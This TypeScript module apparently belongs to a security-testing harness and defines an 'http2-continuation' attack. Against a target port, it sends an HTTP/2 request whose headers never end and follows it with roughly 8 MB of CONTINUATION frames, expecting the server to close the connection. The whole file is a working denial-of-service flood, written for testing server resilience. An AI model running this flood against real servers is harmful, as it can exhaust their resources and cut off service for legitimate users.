import type { Attack } from '../attack.ts';
import { ended, written } from '../connections.ts';
import { continuation, hello, request } from '../http2-frames.ts';

export const http2Continuation: Attack = {
  name: 'http2-continuation',
  input: '8 MB of HTTP/2 CONTINUATION frames without an end',
  async run({ victim, connections, count }) {
    const client = await connections.connectTls(victim.port, { ALPNProtocols: ['h2'] });
    const closed = ended(client);
    client.write(Buffer.concat([hello(), request(1, '/pods', { isWhole: false })]));
    const header = continuation(1, { 'x-odd': 'a'.repeat(120) });
    const frames = Buffer.concat(Array.from({ length: 100 }, () => header));
    for (let n = 0; n < count(600) && client.writable; n++) {
      await written(client, frames);
    }
    await closed;
    return { did: 'the connection was closed' };
  },
};
